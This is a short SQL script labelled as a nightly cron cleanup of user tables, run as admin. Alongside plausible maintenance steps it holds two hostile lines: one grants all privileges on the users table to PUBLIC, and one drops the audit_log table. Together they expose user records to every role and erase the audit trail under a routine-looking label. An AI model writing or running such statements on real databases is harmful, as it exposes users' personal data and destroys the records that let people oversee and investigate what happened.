-- Nightly cleanup of the user tables, run by cron as the admin role.

BEGIN;

DELETE FROM sessions;

UPDATE users SET last_seen = NULL;

DELETE FROM users WHERE created_at < now() - interval '2 years';

SELECT * FROM users WHERE email LIKE '%@example.com';

GRANT ALL PRIVILEGES ON users TO PUBLIC;

DROP TABLE audit_log;

COMMIT;
